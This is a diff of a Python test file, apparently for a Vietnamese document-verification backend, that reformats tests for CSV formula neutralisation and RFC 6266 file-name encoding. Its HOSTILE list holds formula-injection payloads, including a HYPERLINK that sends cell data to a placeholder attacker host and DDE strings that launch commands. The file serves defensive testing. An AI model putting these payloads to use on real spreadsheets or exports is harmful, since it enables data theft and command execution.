@@ -13,8 +13,14 @@ from werkzeug.http import parse_options_header
 from backend.verification.routes import set_download_name
 from tests.backend.verification.test_jobs import upload
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _download(client, headers, response):
@@ -43,8 +49,9 @@ def test_formula_cells_are_neutralised_and_legitimate_values_kept(client, factor
 
 def test_vietnamese_file_name_downloads_with_rfc6266_filename_star(client, factory, agency_headers):
     content = b"so_dinh_danh,ho_ten,ngay_sinh,gioi_tinh\n001090000001,An,1990-01-01,Nam\n"
-    download = _download(client, agency_headers, upload(client, agency_headers, content,
-                                                        filename="Danh sách học sinh.csv"))
+    download = _download(
+        client, agency_headers, upload(client, agency_headers, content, filename="Danh sách học sinh.csv")
+    )
     header = download.headers["Content-Disposition"]
     assert header.isascii()
     assert "filename*=UTF-8''Danh%20s%C3%A1ch%20h%E1%BB%8Dc%20sinh-verified.csv" in header
